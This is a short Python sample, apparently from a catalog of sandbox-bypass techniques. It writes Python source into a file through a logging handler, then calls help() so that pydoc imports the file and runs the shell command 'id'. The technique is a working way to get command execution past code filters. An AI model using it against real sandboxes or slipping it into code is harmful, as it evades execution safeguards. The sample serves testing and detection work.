# class: second-stage | technique: a logging.FileHandler whose file is jobhook.py writes Python source from log records; builtin help("jobhook") then imports it through pydoc | effect: runs `id` when the module is imported
import logging

log = logging.getLogger("jobhook")
handler = logging.FileHandler("jobhook.py", mode="w")
handler.setFormatter(logging.Formatter("%(message)s"))
log.addHandler(handler)
log.setLevel(logging.INFO)
log.propagate = False

log.info("import posix as _p")
log.info("STATUS = _p.system('id')")
handler.close()

help("jobhook")
